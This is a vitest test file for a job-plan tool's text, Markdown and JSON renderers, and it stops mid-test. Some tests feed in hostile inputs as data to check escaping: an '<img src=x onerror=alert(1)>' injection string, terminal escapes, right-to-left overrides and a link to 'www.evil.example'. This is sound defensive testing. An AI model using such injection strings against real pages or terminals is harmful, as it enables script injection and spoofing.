// The three renderers on one plan with every kind of action.

import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { CLUSTERS, desired, options, record } from "../../test/plan-fixtures.js";
import { sha256Hex } from "../identity/fingerprint.js";
import { loadSpec } from "../desired/index.js";
import { createSchemaAjv } from "../desired/schema.js";
import { computePlan } from "../plan/compute.js";
import { planDocument } from "../plan-file/document.js";
import type { Plan } from "../plan/types.js";
import { hasChanges } from "../plan/types.js";
import { StudioJobsError } from "../errors.js";
import { renderPlanJson } from "./json.js";
import { noChangesLine, queryPreview } from "./details.js";
import { renderPlanMarkdown } from "./markdown.js";
import { renderPlanText } from "./text.js";

function everyKindOfPlan(): Plan {
  const created = desired({
    key: "nightly",
    cron: "0 3 * * *",
    workers: 4,
    cluster: { name: "gpu-pool" },
    environment: { API_KEY: "s3cret-new" },
    sensitive: ["environment.API_KEY"],
  });
  const old = desired({
    key: "metrics",
    cron: "0 * * * *",
    query: "import datachain as dc\nprint(1)\n",
    environment: { LOG: "info", TOKEN: "s3cret-old" },
    sensitive: ["environment.TOKEN"],
  });
  const next = desired({
    key: "metrics",
    cron: "@hourly",
    query: "import datachain as dc\nprint(2)\n",
    environment: { LOG: "debug", TOKEN: "s3cret-rotated" },
    sensitive: ["environment.TOKEN"],
    workers: 4,
  });
  const live = { ...record(old, { id: "5f0c2a9e-0000-4000-8000-000000000001" }), workers: 2 };
  const unchanged = desired({ key: "steady", cron: "@daily" });
  const conflicting = desired({ key: "report" });
  const listing = [
    live,
    record(unchanged, { id: "steady-1" }),
    record(unchanged, { id: "steady-0", created_at: "2026-01-01T00:00:00.000Z" }),
    record({ key: "retired" }, { id: "retired-1", status: "TASK" }),
    record({ key: "report", stack: null }, { id: "theirs-1", status: "TASK" }),
  ];
  return computePlan([created, next, unchanged, conflicting], new Map([["demo", listing]]), CLUSTERS, options());
}

describe("renderers", () => {
  it("refuse what is not a plan with a UsageError naming the function, as README's Library promises", () => {
    // Regression: a library caller without type checks got a TypeError from deep inside
    // ("Cannot use 'in' operator to search for 'format_version' in undefined").
    const refusal = (call: () => unknown): string => {
      try {
        call();
      } catch (error) {
        return error instanceof StudioJobsError ? `${error.code} ${error.message}` : `${(error as Error).name} ${(error as Error).message}`;
      }
      return "returned";
    };
    const notPlans = [undefined, null, {}, { actions: [] }, "plan"] as unknown as Plan[];
    const calls = notPlans.flatMap((p) => [
      () => renderPlanText(p),
      () => renderPlanMarkdown(p),
      () => renderPlanJson(p, "1.0.0"),
      () => hasChanges(p),
    ]);
    const expected = ["renderPlanText", "renderPlanMarkdown", "renderPlanJson", "hasChanges"].map(
      (name) => `USAGE ${name}: the first argument must be a plan made by computePlan (or a saved plan's document).`,
    );
    expect(calls.map(refusal)).toEqual(notPlans.flatMap(() => expected));
    // A plan, and its document, still go through.
    expect(hasChanges(plan)).toBe(true);
    expect(renderPlanText(planDocument(plan, "1.0.0"))).toContain("Plan:");
  });

  const plan = everyKindOfPlan();

  it("renders text, Terraform-style", () => {
    expect(renderPlanText(plan, { color: false })).toMatchInlineSnapshot(`
      "Stack analytics, team demo:

        -/+ demo/metrics  replace job 5f0c2a9e (create-first)
              query:
                @@ -1,2 +1,2 @@
                 import datachain as dc
                -print(1)
                +print(2)
              workers: 2 → 4
              environment.LOG: info → debug
              environment.TOKEN: (sensitive) → (sensitive)
              schedule.cron: 0 * * * * → @hourly
                was next: 2026-11-01 01:00 UTC, 2026-11-01 02:00 UTC, 2026-11-01 03:00 UTC
                now next: 2026-11-01 01:00 UTC, 2026-11-01 02:00 UTC, 2026-11-01 03:00 UTC
        +   demo/nightly  create
              query_type: PYTHON
              query: print("nightly")
              schedule.cron: 0 3 * * *   next: 2026-11-01 03:00 UTC, 2026-11-02 03:00 UTC, 2026-11-03 03:00 UTC
              cluster: gpu-pool
              workers: 4
              environment.API_KEY: (sensitive)
        !   demo/report  conflict: unmanaged job theirs-1 has this name; --adopt replaces it
        -   demo/steady  cancel job steady-1 (another live job of this key, beside the one kept)
        -   demo/retired  cancel job retired-1 (removed from the spec)

      Plan: 1 to create, 1 to replace, 2 to cancel, 1 unchanged, 1 conflict, 1 error.
      "
    `);
  });

  it("colours text only when asked", () => {
    expect(renderPlanText(plan, { color: false })).not.toContain("\x1b[");
    // Without options (a library caller in JavaScript) it threw "Cannot read properties of undefined (reading 'color')".
    expect((renderPlanText as (p: Plan) => string)(plan)).toBe(renderPlanText(plan, { color: false }));
    const colored = renderPlanText(plan, { color: true });
    expect(colored).toContain("\x1b[32m+  \x1b[0m");
    // A query's diff: removed lines red, added green, hunk headers dim, context as it is.
    expect(colored).toContain("        \x1b[31m  -print(1)\x1b[0m\n        \x1b[32m  +print(2)\x1b[0m\n");
    expect(colored).toContain("        \x1b[2m  @@ -1,2 +1,2 @@\x1b[0m\n           import datachain as dc\n");
    expect(colored).toContain("\x1b[33m-/+\x1b[0m \x1b[1mdemo/metrics\x1b[0m");
    expect(colored).toContain("\x1b[35m!  \x1b[0m \x1b[1mdemo/report\x1b[0m");
  });

  it("shows control characters and invisible reordering characters from a spec, obeying none of them", () => {
    // Found with a query file and an environment value holding a terminal escape, a CR and
    // U+202E (right-to-left override): the override reached the plan as it was.
    const job = desired({ key: "odd", query: 'print("\x1b[31mRED\x07")\n', environment: { X: "GREEN\r\u202eabc\u2066\u2028" } });
    const shown = computePlan([job], new Map([["demo", []]]), CLUSTERS, options());
    const text = renderPlanText(shown, { color: false });
    expect(text).toContain('query: print("^[[31mRED^G")');
    expect(text).toContain("environment.X: GREEN^M\\u202eabc\\u2066\\u2028");
    expect(renderPlanMarkdown(shown)).toContain("+ environment.X: GREEN^M\\u202eabc\\u2066\\u2028");
    for (const raw of ["\x1b", "\r", "\u202e", "\u2066", "\u2028"]) expect(text).not.toContain(raw);
  });

  it("renders a saved plan (its document, noops and all) as it rendered the plan", () => {
    const saved = planDocument(plan, "0.0.0");
    expect(saved.actions.map((a) => a.kind)).toContain("noop");
    expect(renderPlanText(saved, { color: false })).toBe(renderPlanText(plan, { color: false }));
    expect(renderPlanMarkdown(saved)).toBe(renderPlanMarkdown(plan));
  });

  it("renders Markdown for a pull request", () => {
    expect(renderPlanMarkdown(plan)).toMatchInlineSnapshot(`
      "<!-- studio-jobs-plan: analytics -->
      ### studio-jobs plan for stack <code>analytics</code>, team <code>demo</code>

      **Plan: 1 to create, 1 to replace, 2 to cancel, 1 unchanged, 1 conflict, 1 error.**

      | | job | team | action |
      |---|---|---|---|
      | 🔄 | <code>metrics</code> | demo | replace job 5f0c2a9e (create-first) |
      | ➕ | <code>nightly</code> | demo | create |
      | ⚠️ | <code>report</code> | demo | conflict: unmanaged job theirs-1 has this name; --adopt replaces it |
      | ➖ | <code>steady</code> | demo | cancel job steady-1 (another live job of this key, beside the one kept) |
      | ➖ | <code>retired</code> | demo | cancel job retired-1 (removed from the spec) |

      **Errors — this plan cannot be applied:**
      - Job "report" in team demo conflicts with an existing job of the same name that studio-jobs does not manage (theirs-1). Pass --adopt to replace it with the spec's job, or rename the job.

      <details><summary><code>demo/metrics</code>: replace job 5f0c2a9e (create-first)</summary>

      \`\`\`diff
        query:
      @@ -1,2 +1,2 @@
       import datachain as dc
      -print(1)
      +print(2)
        workers: 2 → 4
        environment.LOG: info → debug
        environment.TOKEN: (sensitive) → (sensitive)
        schedule.cron: 0 * * * * → @hourly
          was next: 2026-11-01 01:00 UTC, 2026-11-01 02:00 UTC, 2026-11-01 03:00 UTC
          now next: 2026-11-01 01:00 UTC, 2026-11-01 02:00 UTC, 2026-11-01 03:00 UTC
      \`\`\`

      </details>
      <details><summary><code>demo/nightly</code>: create</summary>

      \`\`\`diff
      + query_type: PYTHON
      + query: print("nightly")
      + schedule.cron: 0 3 * * *   next: 2026-11-01 03:00 UTC, 2026-11-02 03:00 UTC, 2026-11-03 03:00 UTC
      + cluster: gpu-pool
      + workers: 4
      + environment.API_KEY: (sensitive)
      \`\`\`

      </details>
      "
    `);
  });

  it("renders JSON, versioned, as schema/plan.schema.json describes it", () => {
    const doc = JSON.parse(renderPlanJson(plan, "9.9.9")) as Record<string, unknown>;
    const validate = createSchemaAjv().compile(
      JSON.parse(readFileSync(new URL("../../schema/plan.schema.json", import.meta.url), "utf8")) as object,
    );
    expect(validate(doc), JSON.stringify(validate.errors)).toBe(true);
    // Every kind of action, with after and before where they belong.
    expect(
      (doc["actions"] as { kind: string; after?: unknown; before?: unknown }[]).map((a) => [
        a.kind,
        a.after === null ? "null" : typeof a.after,
        typeof a.before,
      ]),
    ).toEqual([
      ["replace", "object", "object"],
      ["create", "object", "undefined"],
      ["conflict", "object", "object"],
      ["noop", "object", "undefined"],
      ["cancel", "null", "object"],
      ["cancel", "null", "object"],
    ]);
    expect(doc).toMatchInlineSnapshot(`
      {
        "actions": [
          {
            "adopted": false,
            "after": {
              "environment": {
                "LOG": "debug",
                "TOKEN": "(sensitive)",
              },
              "protect": false,
              "query": "import datachain as dc
      print(2)
      ",
              "query_type": "PYTHON",
              "schedule": {
                "cron": "@hourly",
              },
              "workers": 4,
            },
            "before": {
              "environment": {
                "LOG": "info",
                "TOKEN": "(sensitive)",
              },
              "protect": false,
              "query": "import datachain as dc
      print(1)
      ",
              "query_type": "PYTHON",
              "schedule": {
                "cron": "0 * * * *",
              },
              "status": "TASK",
              "workers": 2,
            },
            "changes": [
              {
                "field": "query",
                "kind": "text",
                "patch": "@@ -1,2 +1,2 @@
       import datachain as dc
      -print(1)
      +print(2)",
              },
              {
                "field": "workers",
                "kind": "value",
                "new": "4",
                "old": "2",
              },
              {
                "field": "environment.LOG",
                "kind": "value",
                "new": "debug",
                "old": "info",
              },
              {
                "field": "environment.TOKEN",
                "kind": "value",
                "new": "(sensitive)",
                "old": "(sensitive)",
              },
              {
                "field": "schedule.cron",
                "kind": "cron",
                "new": "@hourly",
                "new_runs": [
                  "2026-11-01T01:00:00.000Z",
                  "2026-11-01T02:00:00.000Z",
                  "2026-11-01T03:00:00.000Z",
                ],
                "old": "0 * * * *",
                "old_runs": [
                  "2026-11-01T01:00:00.000Z",
                  "2026-11-01T02:00:00.000Z",
                  "2026-11-01T03:00:00.000Z",
                ],
              },
            ],
            "job_id": "5f0c2a9e-0000-4000-8000-000000000001",
            "job_url": "http://studio/team/demo/jobs/5f0c2a9e-0000-4000-8000-000000000001",
            "key": "metrics",
            "kind": "replace",
            "protected": false,
            "strategy": "create-first",
            "team": "demo",
          },
          {
            "after": {
              "cluster": "gpu-pool",
              "environment": {
                "API_KEY": "(sensitive)",
              },
              "protect": false,
              "query": "print("nightly")
      ",
              "query_type": "PYTHON",
              "schedule": {
                "cron": "0 3 * * *",
              },
              "workers": 4,
            },
            "key": "nightly",
            "kind": "create",
            "team": "demo",
          },
          {
            "after": {
              "protect": false,
              "query": "print("report")
      ",
              "query_type": "PYTHON",
            },
            "before": {
              "protect": false,
              "query": "print(1)
      ",
              "query_type": "PYTHON",
              "status": "TASK",
              "unknown": [
                "schedule",
                "cluster",
                "priority",
                "credentials",
                "files",
              ],
            },
            "job_id": "theirs-1",
            "job_url": "http://studio/team/demo/jobs/theirs-1",
            "key": "report",
            "kind": "conflict",
            "team": "demo",
          },
          {
            "after": {
              "protect": false,
              "query": "print("steady")
      ",
              "query_type": "PYTHON",
              "schedule": {
                "cron": "@daily",
              },
            },
            "fingerprint": "d924a61aaf041eaa4e76ce91356e0f1b8f42b223ceff24751d34e0022a689dfe",
            "job_id": "steady-0",
            "job_url": "http://studio/team/demo/jobs/steady-0",
            "key": "steady",
            "kind": "noop",
            "team": "demo",
          },
          {
            "after": null,
            "before": {
              "protect": false,
              "query": "print("steady")
      ",
              "query_type": "PYTHON",
              "schedule": {
                "cron": "@daily",
              },
              "status": "TASK",
            },
            "job_id": "steady-1",
            "job_url": "http://studio/team/demo/jobs/steady-1",
            "key": "steady",
            "kind": "cancel",
            "protected": false,
            "reason": "duplicate",
            "team": "demo",
          },
          {
            "after": null,
            "before": {
              "protect": false,
              "query": "print(1)
      ",
              "query_type": "PYTHON",
              "status": "TASK",
            },
            "job_id": "retired-1",
            "job_url": "http://studio/team/demo/jobs/retired-1",
            "key": "retired",
            "kind": "cancel",
            "protected": false,
            "reason": "removed",
            "team": "demo",
          },
        ],
        "created_at": "2026-11-01T00:00:00.000Z",
        "errors": [
          "Job "report" in team demo conflicts with an existing job of the same name that studio-jobs does not manage (theirs-1). Pass --adopt to replace it with the spec's job, or rename the job.",
        ],
        "format_version": 5,
        "remote_digest": "bb227da1b4462beedc20a4f82ea7b9b22f5f4b0e0a927ba3eda817f9e6c02914",
        "stack": "analytics",
        "summary": {
          "cancel": 2,
          "conflict": 1,
          "create": 1,
          "noop": 1,
          "replace": 1,
        },
        "targets": [],
        "teams": [
          "demo",
        ],
        "tool_version": "9.9.9",
        "warnings": [],
      }
    `);
  });

  it("never shows a sensitive value", () => {
    for (const text of [renderPlanText(plan, { color: true }), renderPlanMarkdown(plan), renderPlanJson(plan, "1")]) {
      expect(text).not.toMatch(/s3cret/);
    }
  });

  it("writes unseen characters in --format json as escapes, as a saved plan does", () => {
    const reordered = desired({ key: "nightly", query: "print('a\u202eb\u{E0041}')" });
    const planned = computePlan([reordered], new Map([["demo", []]]), CLUSTERS, options());
    const text = renderPlanJson(planned, "1");
    expect(text).toContain(String.raw`"query": "print('a\u202eb\udb40\udc41')"`);
    expect(text).not.toMatch(/[\u202e\udb40]/);
    expect((JSON.parse(text) as { actions: { after: { query: string } }[] }).actions[0]?.after.query).toBe("print('a\u202eb\u{E0041}')");
  });

  it("says when nothing changes", () => {
    const steady = desired({ key: "steady" });
    const empty = computePlan([steady], new Map([["demo", [record(steady)]]]), CLUSTERS, options());
    expect(renderPlanText(empty, { color: true })).toBe("No changes. Studio matches the spec in team demo.\n");
    expect(noChangesLine([])).toBe("No changes. Studio matches the spec.");
    expect(noChangesLine(["a", "b"])).toBe("No changes. Studio matches the spec in teams a, b.");
    expect(renderPlanMarkdown(empty)).toBe(
      "<!-- studio-jobs-plan: analytics -->\n### studio-jobs plan for stack <code>analytics</code>, team <code>demo</code>\n\nNo changes. Studio matches the spec.\n",
    );
    const pair = computePlan(
      [steady],
      new Map([
        ["demo", [record(steady)]],
        ["ml", []],
      ]),
      CLUSTERS,
      options({ teams: ["demo", "ml"] }),
    );
    expect(renderPlanText(pair, { color: false })).toBe("No changes. Studio matches the spec in teams demo, ml.\n");
  });

  it("keeps Markdown under the limit and says what it left out", () => {
    const many = Array.from({ length: 400 }, (_, i) => desired({ key: `job-${i}`, cron: "@daily", query: "x\n".repeat(50) }));
    const big = computePlan(many, new Map([["demo", []]]), CLUSTERS, options());
    const text = renderPlanMarkdown(big, 20_000);
    expect(text.length).toBeLessThanOrEqual(20_000);
    expect(text).toMatch(
      /_\d+ of 400 job details were left out to keep this comment under 20000 characters; run `studio-jobs plan` for all of them\._\n$/,
    );
  });
});

describe("a Markdown plan too long for a comment", () => {
  it("names at most a heading's worth of teams, each cut short, and says how many more", () => {
    // Found by a tester: 14 teams of about 1,000 characters made a plan of 70,696, past the
    // 65,536 characters GitHub takes; the heading is never cut.
    const teams = Array.from({ length: 14 }, (_, i) => `team${i}-${"t".repeat(1_000)}`);
    const plan = { ...computePlan([], new Map(teams.map((t) => [t, []])), CLUSTERS, options({ teams, allowEmpty: true })), teams };
    const markdown = renderPlanMarkdown(plan);
    const heading = markdown.split("\n")[1] ?? "";
    expect(heading.length).toBeLessThan(1_200);
    expect(heading).toMatch(/^### studio-jobs plan for stack <code>analytics<\/code>, teams <code>team0-t{94}…<\/code>, .* and \d+ more$/);
    expect(markdown.length).toBeLessThan(5_000);
    // Cut by code point: a name of emoji keeps no half of one (a second reviewer).
    const emoji = "\u{1F600}".repeat(150);
    const cut = renderPlanMarkdown({
      ...computePlan([], new Map([[emoji, []]]), CLUSTERS, options({ teams: [emoji], allowEmpty: true })),
      teams: [emoji],
    });
    expect(cut).toContain(`${"\u{1F600}".repeat(100)}…`);
    expect(cut).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
  });

  // Found with 400 creates of 150-character keys before a cancel: the end of the table was
  // cut, and with it the cancel's row and the warning that a running job is cancelled.
  function buriedPlan(): Plan {
    const once = desired({ key: "aaa-once", query: "print('once, changed')\n" });
    const listing = [
      record(once, { id: "once-1", fingerprint: "older", status: "RUNNING" }),
      record({ key: "zzz-important" }, { id: "important-1", status: "TASK" }),
    ];
    const creates = Array.from({ length: 400 }, (_, i) => desired({ key: `create-${String(i).padStart(3, "0")}-${"x".repeat(139)}` }));
    return computePlan([once, ...creates], new Map([["demo", listing]]), CLUSTERS, options());
  }

  it("keeps every replace, cancel, error and warning, and leaves out creates, saying how many and where to see them", () => {
    const plan = buriedPlan();
    const text = renderPlanMarkdown(plan);
    expect(text.length).toBeLessThanOrEqual(60_000);
    const rows = text.split("\n").filter((line) => line.startsWith("|"));
    const creates = rows.filter((row) => row.startsWith("| ➕ |"));
    expect(rows.filter((row) => !row.startsWith("| ➕ |"))).toEqual([
      "| | job | team | action |",
      "|---|---|---|---|",
      "| 🔄 | <code>aaa-once</code> | demo | replace job once-1 (create-first) |",
      "| ➖ | <code>zzz-important</code> | demo | cancel job important-1 (removed from the spec) |",
    ]);
    // The creates shown are the first ones, in plan order.
    expect(creates[0]).toBe(`| ➕ | <code>create-000-${"x".repeat(139)}</code> | demo | create |`);
    expect(creates.length).toBe(311);
    expect(text).toContain(
      "\n**Plan: 400 to create, 1 to replace, 1 to cancel, 0 unchanged.**\n\n" +
        "_This comment leaves out 89 of 400 creates to stay under 60000 characters; it lists every replace, cancel, conflict, error and warning. " +
        "Run `studio-jobs plan` for all of them._\n\n| | job | team | action |\n",
    );
    expect(text).toContain(
      '\n\n**Warnings:**\n- Job "aaa-once" in team demo runs once&#58; replacing it cancels once-1, which is RUNNING, and runs the job again from the start.\n',
    );
    expect(text).toMatch(
      /\n_401 of 401 job details were left out to keep this comment under 60000 characters; run `studio-jobs plan` for all of them\._\n$/,
    );
    // A saved plan (show) says where its whole is.
    expect(renderPlanMarkdown(planDocument(plan, "0.0.0"))).toContain(
      "_This comment leaves out 89 of 400 creates to stay under 60000 characters; it lists every replace, cancel, conflict, error and warning. " +
        "Run `studio-jobs show` on the saved plan for all of them._\n",
    );
  });

  it("keeps a conflict's row however many creates come before it", () => {
    const theirs = desired({ key: "zzz-theirs" });
    const creates = Array.from({ length: 400 }, (_, i) => desired({ key: `create-${String(i).padStart(3, "0")}-${"x".repeat(139)}` }));
    const listing = [record({ key: "zzz-theirs", stack: null }, { id: "theirs-1", status: "TASK" })];
    const text = renderPlanMarkdown(computePlan([...creates, theirs], new Map([["demo", listing]]), CLUSTERS, options()));
    expect(text).toContain(
      "\n| ⚠️ | <code>zzz-theirs</code> | demo | conflict: unmanaged job theirs-1 has this name; --adopt replaces it |\n",
    );
    expect(text).toContain("_This comment leaves out 89 of 400 creates to stay under 60000 characters;");
  });

  it("shows what a warning or an error writes in backticks as code, and a name's own backtick as it is", () => {
    // Found by a new user following the CI recipe: a stack's first plan warned of "a changed
    // &#96;team&#58;&#96;", the backticks shown as such in the pull request's comment.
    const plan = computePlan([desired({ key: "new-a" })], new Map([["demo", []]]), CLUSTERS, options());
    const warned: Plan = {
      ...plan,
      warnings: ["list that team under `teams:` to cancel them", 'Job "a`b" is odd: one backtick of its own, shown as it is'],
      errors: ['Job "x``y" and `--adopt`: a pair of its own, escaped whole'],
    };
    const text = renderPlanMarkdown(warned);
    expect(text).toContain("\n- list that team under <code>teams&#58;</code> to cancel them\n");
    expect(text).toContain('\n- Job "a&#96;b" is odd&#58; one backtick of its own, shown as it is\n');
    expect(text).toContain('\n- Job "x&#96;&#96;y" and &#96;--adopt&#96;&#58; a pair of its own, escaped whole\n');
    expect(text.split("\n").filter((line) => line.startsWith("- "))).toHaveLength(3);
    expect(text.split("\n").filter((line) => line.startsWith("- ") && line.includes("`"))).toEqual([]);
  });

  it("shows a name's pair of backticks as they are, not as a span that hides them", () => {
    // A team "`prod`" (the schema allows backticks in a team's name) was shown in a stack's
    // first plan as <code>prod</code>, which reads as team prod; a job "a`b`" and a team
    // "`c" as a<code>b" in team </code>c. Neither name could be told from the comment.
    const first = renderPlanMarkdown(
      computePlan(
        [desired({ key: "new-a", team: "`prod`", cron: "0 3 * * *" })],
        new Map([["`prod`", []]]),
        CLUSTERS,
        options({ teams: ["`prod`"] }),
      ),
    );
    expect(first).toContain(
      "\n- Stack analytics has no live jobs in team &#96;prod&#96;. If its jobs run in another team (a changed &#96;team&#58;<!-- -->&#96; or default team), " +
        "they keep running beside these&#58; list that team under &#96;teams&#58;<!-- -->&#96; to cancel them.\n",
    );
    const plan = computePlan([desired({ key: "new-a" })], new Map([["demo", []]]), CLUSTERS, options());
    const named = renderPlanMarkdown({ ...plan, warnings: ['Job "a`b`" in team `c is protected; list it under `teams:`'] });
    expect(named).toContain('\n- Job "a&#96;b&#96;" in team &#96;c is protected; list it under &#96;teams&#58;<!-- -->&#96;\n');
    expect(named).not.toContain("<code>b");
  });

  it("says in bold, before the table, what it leaves out when even its warnings do not all fit", () => {
    const listing = Array.from({ length: 150 }, (_, i) =>
      record({ key: `gone-${String(i).padStart(3, "0")}-${"y".repeat(100)}` }, { id: `gone-${i}`, status: "RUNNING" }),
    );
    const creates = [desired({ key: "new-a" }), desired({ key: "new-b" })];
    const plan = computePlan(creates, new Map([["demo", listing]]), CLUSTERS, options({ maxCancel: 1000 }));
    expect([plan.summary.cancel, plan.warnings.length]).toEqual([150, 150]);
    const text = renderPlanMarkdown(plan, 40_000);
    expect(text.length).toBeLessThanOrEqual(40_000);
    const lines = text.split("\n");
    expect(lines.slice(0, 7)).toEqual([
      "<!-- studio-jobs-plan: analytics -->",
      "### studio-jobs plan for stack <code>analytics</code>, team <code>demo</code>",
      "",
      "**Plan: 2 to create, 0 to replace, 150 to cancel, 0 unchanged.**",
      "",
      "**This plan does not fit in a comment of 40000 characters: it leaves out 93 of 150 warnings and 2 of 2 creates. " +
        "Run `studio-jobs plan` to see every change before you approve it.**",
      "",
    ]);
    // Every cancel is there, then the first warnings; no create.
    expect(lines.filter((line) => line.startsWith("| ➖ |"))).toHaveLength(150);
    expect(lines.filter((line) => line.startsWith("| ➕ |"))).toHaveLength(0);
    expect(lines.filter((line) => line.startsWith("- Job "))).toHaveLength(57);
    expect(text).toContain(`\n\n**Warnings:**\n- Job "gone-000-${"y".repeat(100)}" in team demo&#58; the plan cancels gone-0,`);
    expect(text).toMatch(
      /\n_2 of 2 job details were left out to keep this comment under 40000 characters; run `studio-jobs plan` for all of them\._\n$/,
    );
  });
});

describe("what a plan tells", () => {
  it("counts conflicts and errors in the closing line, and says No changes only when there is nothing at all", () => {
    const steady = desired({ key: "steady" });
    const listing = [record(steady)];
    const onlyError = computePlan([steady], new Map([["demo", listing]]), CLUSTERS, options({ targets: ["steady", "typo"] }));
    expect(onlyError.errors).toEqual(["--target typo matches no job of the spec and no live job of stack analytics."]);
    expect(renderPlanText(onlyError, { color: false })).toBe(
      "Plan: 0 to create, 0 to replace, 0 to cancel, 1 unchanged, 1 error.\n" +
        "Only the jobs --target names were planned (steady, typo): the counts leave out the stack's other jobs, which are left as they are.\n",
    );
    expect(renderPlanMarkdown(onlyError)).toContain("**Plan: 0 to create, 0 to replace, 0 to cancel, 1 unchanged, 1 error.**");
    expect(renderPlanMarkdown(onlyError)).not.toContain("No changes");

    const twins = [desired({ key: "a" }), desired({ key: "b" })];
    const theirs = twins.map((j) => record({ key: j.key, stack: null }, { status: "TASK" }));
    const conflicts = computePlan(twins, new Map([["demo", theirs]]), CLUSTERS, options());
    expect(renderPlanText(conflicts, { color: false })).toMatch(
      /\n\nPlan: 0 to create, 0 to replace, 0 to cancel, 0 unchanged, 2 conflicts, 2 errors\.\n$/,
    );
  });

  it("marks a protected job in its plan line, also when --allow-protected lets it go", () => {
    const kept = desired({ key: "kept", cron: "@daily", protect: true });
    const listing = [
      record(kept, { fingerprint: "older", protect: true }),
      record({ key: "gone", protect: true }, { id: "gone-1", status: "TASK" }),
    ];
    const plan = computePlan([kept], new Map([["demo", listing]]), CLUSTERS, options({ allowProtected: true }));
    const text = renderPlanText(plan, { color: false });
    expect(text).toMatch(/^ {2}-\/\+ demo\/kept {2}replace job job-\d+ \(create-first\) \[protected\]$/m);
    expect(text).toMatch(/^ {2}- {3}demo\/gone {2}cancel job gone-1 \(removed from the spec\) \[protected\]$/m);
    expect(renderPlanMarkdown(plan)).toContain("| ➖ | <code>gone</code> | demo | cancel job gone-1 (removed from the spec) [protected] |");
    const doc = JSON.parse(renderPlanJson(plan, "1")) as { actions: { kind: string; protected?: boolean }[] };
    expect(doc.actions.map((a) => [a.kind, a.protected])).toEqual([
      ["replace", true],
      ["cancel", true],
    ]);
  });

  it("says an adopted job that changes no visible field is replaced to carry the stack's markers, not that a fingerprint differs (from a README walkthrough)", () => {
    const job = desired({ key: "same" });
    const byHand = record({ key: "same", stack: null }, { id: "hand-1", status: "TASK", query: job.values.query });
    const plan = computePlan([job], new Map([["demo", [byHand]]]), CLUSTERS, options({ adopt: true }));
    expect(plan.actions.map((a) => [a.kind, a.kind === "replace" ? a.adopted : undefined])).toEqual([["replace", true]]);
    const text = renderPlanText(plan, { color: false });
    expect(text).not.toContain("fingerprint");
    expect(text).toMatch(/replace unmanaged job hand-1 \(adopt; create-first\)\n/);
    const replace = plan.actions[0];
    expect(replace?.kind === "replace" ? replace.changes : undefined).toEqual([]);
    expect(text).toContain("(no visible field changed; the job made by hand is replaced by one that carries the stack's markers)");
    const destroyed = computePlan(
      [],
      new Map([["demo", [record(job, { id: "j-1" })]]]),
      CLUSTERS,
      options({ destroying: true, allowEmpty: true }),
    );
    expect(renderPlanText(destroyed, { color: false })).toMatch(/^ {2}- {3}demo\/same {2}cancel job j-1 \(the stack is destroyed\)$/m);
  });

  it("says in Markdown, as in text, that a replace changes no visible field", () => {
    const job = desired({ key: "same", cron: "@daily" });
    const plan = computePlan([job], new Map([["demo", [record(job, { id: "same-1", fingerprint: "older" })]]]), CLUSTERS, options());
    expect(plan.actions.map((a) => [a.kind, a.kind === "replace" ? a.changes : undefined])).toEqual([["replace", []]]);
    expect(renderPlanText(plan, { color: false })).toContain(
      "  -/+ demo/same  replace job same-1 (create-first)\n        (no visible field changed; the recorded fingerprint differs)\n",
    );
    expect(renderPlanMarkdown(plan)).toContain(
      "<details><summary><code>demo/same</code>: replace job same-1 (create-first)</summary>\n\n" +
        "```diff\n  (no visible field changed; the recorded fingerprint differs)\n```\n\n</details>\n",
    );
  });

  it("escapes job names, ids and errors everywhere in Markdown", () => {
    const weird = "weird|name`x<b>";
    const mine = desired({ key: weird, environment: { NOTE: "a|b`c<i>" } });
    const listing = [
      record({ key: weird, stack: null }, { id: "<img src=x>", status: "TASK" }),
      record({ key: "gone|@org/team :+1: *x*" }, { id: "id|`1`", status: "TASK" }),
    ];
    const conflicted = computePlan([mine, desired({ key: "new|<b>" })], new Map([["demo", listing]]), CLUSTERS, options());
    const adopted = computePlan([mine], new Map([["demo", listing]]), CLUSTERS, options({ adopt: true }));
    for (const plan of [conflicted, adopted]) {
      const text = renderPlanMarkdown(plan);
      const rows = text.split("\n").filter((line) => line.startsWith("| "));
      expect(rows.length).toBeGreaterThan(2);
      // Every row keeps its four cells: no name adds a `|`.
      for (const row of rows) expect(row.match(/\|/g)).toHaveLength(5);
      const outsideFences = text.replace(/(`{3,})diff\n[\s\S]*?\n\1/g, "");
      expect(outsideFences).not.toMatch(/<(b|i|img)[ >]/);
      expect(outsideFences).not.toContain("`");
      expect(outsideFences).not.toContain("@org");
      expect(outsideFences).not.toContain(":+1:");
      expect(outsideFences).toContain("<code>weird&#124;name&#96;x&#60;b&#62;</code>");
    }
    expect(renderPlanMarkdown(conflicted)).toContain(
      '- Job "weird&#124;name&#96;x&#60;b&#62;" in team demo conflicts with an existing job of the same name that studio-jobs does not manage (&#60;img src=x&#62;).',
    );
    // The hidden first line too, for a saved plan whose stack no schema checked.
    const saved = { ...planDocument(conflicted, "0.0.0"), stack: "good --><img src=x onerror=alert(1)><!--\n" };
    expect(renderPlanMarkdown(saved).split("\n")[0]).toBe(
      "<!-- studio-jobs-plan: good --&#62;&#60;img src=x onerror=alert(1)&#62;&#60;&#33;--^J -->",
    );
    // A stack the schemas allow is written as it is: CI finds its comment by this line.
    expect(renderPlanMarkdown({ ...saved, stack: "ml_platform.v2-prod" }).split("\n")[0]).toBe(
      "<!-- studio-jobs-plan: ml_platform.v2-prod -->",
    );
    // In a fenced block a value shows as written, and cannot close the fence.
    expect(renderPlanMarkdown(adopted)).toContain("  environment.NOTE: (not set) → a|b`c<i>\n");
  });

  it("fences a diff with more backticks than any run of them in it, so a query cannot close it and write Markdown", () => {
    const job = desired({ key: "fenced", query: "x = '````'\n" });
    const text = renderPlanMarkdown(computePlan([job], new Map([["demo", []]]), CLUSTERS, options()));
    expect(text).toContain("`````diff\n+ query_type: PYTHON\n+ query: x = '````'\n`````\n");
    expect(text).toMatch(/\n`````\n\n<\/details>\n$/);
  });

  it("links no www. address a name or team holds", () => {
    // Found by an adversarial tester: GitHub links "www.example.com" after a space or at a
    // cell's start without any `:` or `@`, so a job named "see www.evil.example" or a team
    // "www.evil.example" put a link into the comment.
    const jobs = [desired({ key: "see www.evil.example/login" }), desired({ key: "x", team: "WWW.evil.example" })];
    const teams = ["demo", "WWW.evil.example"];
    const plan = computePlan(jobs, new Map(teams.map((team) => [team, []])), CLUSTERS, options({ teams }));
